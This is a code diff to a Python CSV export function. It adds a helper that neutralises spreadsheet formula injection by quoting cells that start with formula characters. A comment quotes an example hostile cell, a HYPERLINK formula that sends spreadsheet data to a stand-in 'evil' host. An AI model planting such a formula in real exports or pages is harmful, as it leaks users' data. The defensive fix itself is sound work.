@@ -79,9 +79,24 @@ def write_csv(rows: Iterable[Mapping[str, Any]], out: TextIO) -> int:
         if writer is None:
             writer = csv.DictWriter(out, fieldnames=list(row), extrasaction="ignore")
             writer.writeheader()
-        writer.writerow({k: json.dumps(v) if isinstance(v, list | dict) else v for k, v in row.items()})
+        writer.writerow({k: _csv_cell(v) for k, v in row.items()})
         count += 1
     return count
+
+
+# A cell a spreadsheet would run as a formula (OWASP's CSV injection): titles and text come from pages,
+# and a hostile page titled `=HYPERLINK("http://evil/?"&A1, "x")` would run when the export is opened.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _csv_cell(value: Any) -> Any:
+    """A value as its cell: lists and mappings as JSON, text a spreadsheet would read as a formula
+    behind a quote (OWASP's advice), so it shows as the text it is."""
+    if isinstance(value, list | dict):
+        return json.dumps(value)
+    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
+        return "'" + value
+    return value
 
 
 def write_warc(docs: Iterable[Mapping[str, Any]], out: BinaryIO, gzip: bool = True) -> int:
